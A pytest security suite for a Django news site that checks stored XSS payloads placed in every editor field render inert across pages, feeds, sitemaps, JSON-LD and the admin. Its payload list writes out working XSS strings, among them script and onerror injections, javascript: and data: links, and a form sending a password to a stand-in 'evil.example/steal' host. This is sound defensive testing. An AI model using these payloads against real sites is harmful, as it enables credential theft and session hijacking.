"""
Stored XSS: every payload of the corpus, placed in every editor-entered field at once,
leaves no active content on the reader pages, the feeds, the sitemaps, the structured
data, the previews or the admin.

Every payload goes through the renderers and the JSON-LD builders (cheap); the whole site
is rendered for a representative payload of each attack class (PAGE_PAYLOADS), which keeps
the suite's run time within a couple of minutes.

Adding a field or a page is one line in FIELDS or in the page lists below.
"""

import json
from collections import Counter
from datetime import timedelta
from urllib.parse import quote
from xml.etree import ElementTree

import html5lib
import pytest
import reversion
from django.contrib.admin.models import CHANGE, LogEntry
from django.core.files.base import ContentFile
from django.db import transaction
from django.urls import reverse
from django.utils import timezone
from reversion.models import Version

from articles.markdown import markdown_inline, markdown_to_html
from articles.models import (
    Article,
    Attribution,
    Byline,
    Correction,
    Image,
    Organization,
    Person,
    PreviewLink,
    Section,
    Tag,
    Video,
)
from articles.reader import structured_data
from tests.helpers import make_user, png_bytes
from tests.security.xss_corpus import (
    ACTIVE_TAGS,
    BAD_SCHEME,
    PAYLOADS,
    active_content,
    browser_url,
)

# Every field an editor types into that reaches a page, by model.
FIELDS = {
    Section: ("name", "description"),
    Person: ("name", "job_title", "bio", "social_handle"),
    Organization: ("name", "short_name"),
    Image: ("alt_text", "caption", "credit"),
    Video: ("title", "description", "caption", "credit_text"),
    Article: ("headline", "dek", "body", "seo_title", "seo_description"),
    Attribution: ("custom_phrase",),
    Tag: ("name",),
    Correction: ("text",),
}
FIELD_COUNT = sum(len(names) for names in FIELDS.values())


def filled(model, text):
    """The model's editor fields, each holding ``text`` (cut to the field's limit)."""
    # Forms refuse NUL (test_robustness.py) and PostgreSQL cannot store it; a browser
    # reads it as U+FFFD, so that is what the rows hold.
    text = text.replace("\x00", "\ufffd")
    values = {}
    for name in FIELDS[model]:
        limit = model._meta.get_field(name).max_length
        values[name] = text[:limit] if limit else text
    return values


class Newsroom:
    """One published article with every related row, each field holding the same text."""

    def __init__(self, text):
        self.image = Image(**filled(Image, text))
        self.image.file = ContentFile(png_bytes(), name="picture.png")
        self.image.save()
        self.section = Section.objects.create(slug="world", **filled(Section, text))
        self.person = Person.objects.create(
            slug="reporter",
            headshot=self.image,
            website="https://example.com/",
            **filled(Person, text),
        )
        self.organization = Organization.objects.create(
            slug="agency", logo=self.image, **filled(Organization, text)
        )
        self.video = Video.objects.create(
            slug="clip",
            source_url="https://media.example.com/clip.mp4",
            poster=self.image,
            **filled(Video, text),
        )
        self.article = Article.objects.create(
            slug="story",
            section=self.section,
            lead_video=self.video,
            status=Article.Status.PUBLISHED,
            published_at=timezone.now() - timedelta(hours=1),
            **filled(Article, text),
        )
        self.article.sync_videos()
        self.tag = Tag.objects.create(slug="topic", **filled(Tag, text))
        self.article.tags.add(self.tag)
        Byline.objects.create(article=self.article, person=self.person)
        Attribution.objects.create(
            article=self.article, organization=self.organization, **filled(Attribution, text)
        )
        Correction.objects.create(
            article=self.article,
            published_at=timezone.now() - timedelta(minutes=30),
            **filled(Correction, text),
        )
        self.objects = (
            self.article,
            self.section,
            self.person,
            self.organization,
            self.image,
            self.video,
            self.tag,
        )
        self.editor = make_user(superuser=True, password=None)
        self.share = PreviewLink.objects.create(article=self.article, created_by=self.editor)
        # Two saved versions, so the history lists them and the comparison shows a diff.
        for body in (self.article.body, self.article.body + "\n\nOne more paragraph."):
            with reversion.create_revision():
                reversion.set_user(self.editor)
                self.article.body = body
                self.article.save()
        self.versions = list(Version.objects.get_for_object(self.article).order_by("pk"))
        self.query = filled(Tag, text)["name"]
        for obj in self.objects:
            LogEntry.objects.log_actions(
                self.editor.pk, [obj], CHANGE, change_message="Changed text.", single_object=True
            )


def reader_pages(site):
    """Every page a reader (or a holder of a share link) can open that shows the text."""
    section, author = site.section.get_absolute_url(), site.person.get_absolute_url()
    return [
        "/",
        site.article.get_absolute_url(),
        author,
        section,
        site.tag.get_absolute_url(),
        "/search/?q=" + quote(site.query),
        "/corrections/",
        site.share.share_path(),
        *feeds(section, author),
        *SITEMAPS,
    ]


def feeds(section, author):
    return [
        "/feed/",
        "/feed/atom/",
        f"{section}feed/",
        f"{section}feed/atom/",
        f"{author}feed/",
        f"{author}feed/atom/",
        "/corrections/feed/",
    ]


SITEMAPS = [
    "/sitemap.xml",
    "/sitemap-articles.xml",
    "/sitemap-sections.xml",
    "/sitemap-authors.xml",
    "/news-sitemap.xml",
]


def admin_pages(site):
    pages = [
        reverse("admin:articles_article_changelist"),
        reverse("admin:articles_article_preview", args=[site.article.pk]),
        reverse("admin:articles_article_compare", args=[site.article.pk])
        + "?from={}&to={}".format(*(version.pk for version in site.versions)),
        reverse("admin:articles_article_revision", args=[site.article.pk, site.versions[0].pk]),
    ]
    for obj in site.objects:
        info = (obj._meta.app_label, obj._meta.model_name)
        pages.append(reverse("admin:{}_{}_change".format(*info), args=[obj.pk]))
        pages.append(reverse("admin:{}_{}_history".format(*info), args=[obj.pk]))
    return pages


def render(client, site):
    """Each page as (url, active content), the editor's preview of the body last."""
    pages = []
    for url in reader_pages(site):
        client.logout()
        pages.append((url, client.get(url)))
    client.force_login(site.editor)
    for url in admin_pages(site):
        pages.append((url, client.get(url)))
    preview = client.post("/admin/markdownx/markdownify/", {"content": site.article.body})
    pages.append(("preview", preview))
    for url, response in pages:
        assert response.status_code == 200, (url, response.status_code)
    return [(url, found_in(response)) for url, response in pages]


def found_in(response):
    content = response.content.decode()
    if "xml" in response["Content-Type"]:
        return xml_active_content(content)
    return active_content(content)


# Feed elements whose text is HTML (escaped inside the XML) that feed readers display.
HTML_IN_XML = {"description", "summary", "content", "encoded"}
# Feed and sitemap elements whose text is an address.
LINKS = {"link", "loc", "guid", "id", "url"}


def xml_active_content(text):
    """Active content in a feed or sitemap: the XML must parse (nothing broke out of an
    element), no element may be an HTML active one, no link may carry a dangerous scheme,
    and the HTML inside descriptions is judged like a page."""
    found = Counter()
    for element in ElementTree.fromstring(text).iter():  # noqa: S314 (the site's own output)
        tag = element.tag.rsplit("}", 1)[-1]
        if tag in ACTIVE_TAGS:
            found[f"xml <{tag}>"] += 1
        links = [element.get("href", "")] + ([element.text or ""] if tag in LINKS else [])
        found.update(
            f"xml {tag} {link[:40]}" for link in links if BAD_SCHEME.match(browser_url(link))
        )
        if tag in HTML_IN_XML and element.text:
            found.update(active_content(element.text))
    return found


_baseline = {}


def baseline(client):
    """Active content of each page with harmless text: the admin's own scripts and forms."""
    if not _baseline:
        sid = transaction.savepoint()
        pages = render(client, Newsroom("Harmless words"))
        transaction.savepoint_rollback(sid)
        _baseline.update({i: found for i, (_, found) in enumerate(pages)})
    return _baseline


# One payload of each class, rendered on every page (all of them go through the renderers
# in test_every_payload_renders_inert).
PAGE_PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<iframe src=https://evil.example></iframe>",
    '<form action="https://evil.example/steal"><input name=password></form>',
    '<base href="https://evil.example/">',
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "\u0000<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x][ref]\n\n[ref]: data:text/html,<script>alert(1)</script>",
    '![x"onerror="alert(1)](x)',
    '[[video:x"><script>alert(1)</script>]]',
    "{{ 7*7 }} {% now 'Y' %} ${alert(1)}",
    "[click](java&#x09;script:alert(1))",
]


def no_script_for_readers(found):
    """Readers' pages carry no script or handler at all, not even the site's own."""
    return not [item for item in found if item.startswith("<script") or "[on" in item]


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAGE_PAYLOADS, ids=range(len(PAGE_PAYLOADS)))
def test_payload_in_every_field_stays_inert_everywhere(client, payload):
    """No script, handler, dangerous URL, frame, plugin, SVG, MathML, style, base or form
    that the same pages with harmless text do not already have."""
    expected = baseline(client)
    site = Newsroom(payload)
    readers = reader_pages(site)
    for index, (url, found) in enumerate(render(client, site)):
        assert not found - expected[index], (url, payload)
        if url in readers or url.endswith("preview/") or url == "preview":
            assert no_script_for_readers(found), (url, payload)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_every_payload_renders_inert(payload):
    """Every payload, through each renderer a field can reach readers by: the body and bio
    renderer, the one-line renderer of deks and captions, and the JSON-LD builder shared by
    NewsArticle, breadcrumbs and VideoObject (which must stay a data block that gives the
    text back unchanged)."""
    assert not active_content(markdown_to_html(payload)), payload
    assert not active_content(f"<p>{markdown_inline(payload)}</p>"), payload
    data = {"@type": "NewsArticle", "headline": payload, "author": [{"name": payload}]}
    block = structured_data.json_ld(data)
    assert not active_content(f"<head>{block}</head><body><p>after</p></body>"), payload
    text = block.split(">", 1)[1].rsplit("</script>", 1)[0]
    assert "</" not in text and json.loads(text) == data, payload


# Sitemaps that list addresses only: checked for links, with no editor text to carry.
ADDRESS_ONLY = {
    "/sitemap.xml",
    "/sitemap-articles.xml",
    "/sitemap-sections.xml",
    "/sitemap-authors.xml",
}


@pytest.mark.django_db
def test_the_text_reaches_every_page_it_is_checked_on(client):
    """The whole-site test is not blind: the fields' text shows on every page it renders
    (the address-only sitemaps aside), and the article's JSON-LD blocks carry it as JSON."""
    site = Newsroom("Harmless words")
    for url in reader_pages(site):
        if url not in ADDRESS_ONLY:
            assert "Harmless words" in client.get(url).content.decode(), url
    client.force_login(site.editor)
    for url in admin_pages(site):
        assert "Harmless words" in client.get(url).content.decode(), url
    page = html5lib.parse(
        client.get(site.article.get_absolute_url()).content.decode(),
        treebuilder="etree",
        namespaceHTMLElements=False,
    )
    blocks = [
        json.loads(script.text)
        for script in page.iter("script")
        if script.get("type") == "application/ld+json"
    ]
    types = {block.get("@type") for block in blocks}
    assert {"NewsArticle", "BreadcrumbList", "VideoObject"} <= types
    assert all("Harmless words" in json.dumps(block) for block in blocks)


def test_page_payloads_come_from_the_corpus():
    """The whole-site payloads are corpus entries, one of each class."""
    assert set(PAGE_PAYLOADS) <= set(PAYLOADS)
    assert len(set(PAGE_PAYLOADS)) == len(PAGE_PAYLOADS) >= 20


def test_the_corpus_is_large_and_covers_every_field():
    """At least 150 payloads, tried in every editor-entered field."""
    assert len(PAYLOADS) >= 150
    assert FIELD_COUNT >= 23


def test_the_detector_finds_what_it_looks_for():
    """The checker is not blind: raw payloads and obfuscated URLs are caught."""
    caught = [payload for payload in PAYLOADS if active_content(f"<div>{payload}</div>")]
    assert len(caught) >= 100
    assert active_content('<a href=" java&#x09;script:alert(1)">x</a>')
    assert active_content('<img src=x onerror="alert(1)">')
    assert active_content("<svg><circle/></svg>")
    assert not active_content('<p><a href="https://example.com/">x</a></p>')
    # A JSON-LD block passes only as escaped JSON of exactly that type.
    data_block = '<script type="{}">{}</script>'
    assert not active_content(data_block.format("application/ld+json", '{"a": "\\u003C"}'))
    assert active_content(data_block.format("application/ld+json", '{"a": "</p>"}'))
    assert active_content(data_block.format("application/ld+json", "alert(1)"))
    assert active_content(data_block.format("application/LD+json", "{}"))
    assert active_content(data_block.format("text/javascript", "{}"))
    # Feeds: HTML inside descriptions is judged, and so are links.
    escaped = "<rss><channel><description>&lt;img src=x onerror=alert(1)&gt;</description>"
    escaped += "</channel></rss>"
    assert xml_active_content(escaped)
    assert xml_active_content("<urlset><url><loc> javascript:alert(1)</loc></url></urlset>")
    assert not xml_active_content("<rss><channel><title>&lt;script&gt;</title></channel></rss>")


@pytest.mark.django_db
def test_preview_is_refused_to_anyone_who_cannot_write_articles(client):
    """Anonymous users and staff without article rights get 403 from the live preview."""
    url = "/admin/markdownx/markdownify/"
    assert client.post(url, {"content": "*x*"}).status_code == 403
    client.force_login(make_user(groups=["Desk"], password=None))
    assert client.post(url, {"content": "*x*"}).status_code == 403


@pytest.mark.django_db
def test_preview_shows_what_the_page_will_show(client):
    """The live preview and the published body come from the same sanitizing renderer."""
    text = PAYLOADS[0] + "\n\n*kept* [link](https://example.com) [bad](javascript:alert(1))"
    client.force_login(make_user(superuser=True, password=None))
    preview = client.post("/admin/markdownx/markdownify/", {"content": text})
    article = Newsroom("Harmless words").article
    article.body = text
    article.save()
    assert preview.content.decode() == article.body_html
    assert "<em>kept</em>" in article.body_html and "javascript" not in article.body_html
